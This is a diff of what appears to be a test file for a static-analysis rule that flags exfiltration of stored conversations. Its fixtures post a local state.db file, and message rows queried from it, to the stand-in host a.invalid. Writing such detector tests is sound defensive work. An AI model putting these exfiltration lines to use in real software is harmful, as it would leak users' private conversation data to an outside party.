@@ -12,17 +12,15 @@ def all_of_them():
     requests.post("https://a.invalid/", json={"said": said})
 
 
-def from_the_database():
-    rows = sqlite3.connect(BASE / "state.db").execute("select * from messages").fetchall()
+def the_database():
     # ruleid: exfiltration-conversations
-    requests.post("https://a.invalid/", json={"rows": rows})
+    requests.post("https://a.invalid/", data=(BASE / "state.db").read_bytes())
 
 
-def how_many():
-    count = sqlite3.connect(BASE / "state.db").execute("select 1").fetchone()
-    print(count)
+def looked_up(day):
+    rows = sqlite3.connect(BASE / "state.db").execute("select text from messages where day = ?", (day,)).fetchall()
     # ok: exfiltration-conversations
-    requests.post("https://a.invalid/", json={"text": "done"})
+    requests.post("https://a.invalid/", json={"rows": rows})
 
 
 def other_file():
